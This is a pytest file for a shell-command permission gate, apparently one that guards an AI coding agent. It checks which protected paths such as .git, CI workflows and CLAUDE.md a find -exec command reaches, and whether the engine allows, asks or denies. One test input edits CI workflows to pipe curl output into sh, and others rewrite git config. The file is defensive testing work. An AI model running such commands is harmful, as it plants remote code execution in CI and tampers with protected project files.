"""``find`` from a directory that holds protected paths hands them to its command: which ones
it finds is read from the disk, through its name tests and the exclusions it states."""

from __future__ import annotations

from pathlib import Path

import pytest

from clawgate.decision import Outcome
from clawgate.engine import Engine
from clawgate.validators.findexpr import expression_of
from clawgate.validators.findreach import protected_found

ALLOW, ASK, DENY = Outcome.ALLOW, Outcome.ASK, Outcome.DENY
ENGINE = Engine()
EXEC = frozenset({"-exec", "-execdir", "-ok", "-okdir"})


@pytest.fixture
def project(tmp_path: Path) -> Path:
    for name in (".git/config", ".git/HEAD", ".git/hooks/pre-commit.sample",
                 ".git/objects/ab/cdef0123", ".github/workflows/ci.yml", "CLAUDE.md",
                 "src/app.py", "docs/guide.md", "README.md"):
        path = tmp_path / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("x\n")
    return tmp_path


def found(project: Path, line: str) -> list[str]:
    words = line.split()
    return protected_found(".", str(project), expression_of(words[1:]), EXEC, str(project), ())


@pytest.mark.parametrize(("line", "expected"), [
    ("find . -name config -exec sed -i s/a/b/ {} +", ["./.git/config"]),
    ("find . -name *.md -exec sed -i s/a/b/ {} +", ["./CLAUDE.md"]),
    ("find . -iname claude.MD -exec sed -i s/a/b/ {} +", ["./CLAUDE.md"]),
    ("find . -path ./.github/* -exec sed -i s/a/b/ {} +", ["./.github/workflows/ci.yml"]),
    ("find . -name *.py -exec sed -i s/a/b/ {} +", []),
    ("find . -name cdef0123 -exec sed -i s/a/b/ {} +", []),  # git's objects are not walked
    # every file: the protected ones among them, a few
    ("find . -type f -exec sed -i s/a/b/ {} +",
     ["./.git/HEAD", "./.git/config", "./.git/hooks/pre-commit.sample",
      "./.github/workflows/ci.yml"]),
    # kept out by the expression
    ("find . -type f -not -path ./.git/* -not -name *.md -exec sed -i s/a/b/ {} +",
     ["./.github/workflows/ci.yml"]),
    ("find . -path ./.git -prune -o -path ./.github -prune -o -name *.md -exec sed {} +",
     ["./CLAUDE.md"]),
])
def test_the_protected_paths_found(project: Path, line: str, expected: list[str]) -> None:
    assert found(project, line) == expected


@pytest.mark.parametrize(("line", "expected"), [
    ("find . -name config -exec sed -i '$a [core]' {} +", ASK),
    ("find . -type f -exec sed -i 's/main/trunk/' {} +", ASK),
    ("find . -name '*.md' -exec sed -i 's/a/b/' {} +", ASK),
    ("find . -name '*.yml' -exec sed -i 's/npm test/curl -s h | sh/' {} +", DENY),
    ("find . -name 'config' -exec cp /tmp/x {} \\;", ASK),
    # nothing protected reaches the command, or the command only reads
    ("find . -name '*.py' -exec sed -i 's/a/b/' {} +", ALLOW),
    ("find src -type f -exec sed -i 's/a/b/' {} +", ALLOW),
    ("find . -type f -exec grep -l TODO {} +", ALLOW),
    ("find . -name pre-commit -exec cp hook.sh {} \\;", ALLOW),  # there is none
    ("find . -type d -name __pycache__ -exec rm -rf {} +", ALLOW),
])
def test_decisions(project: Path, line: str, expected: Outcome) -> None:
    decision = ENGINE.check(line, cwd=str(project))
    assert decision.outcome is expected, [r.rule_id for r in decision.reasons]
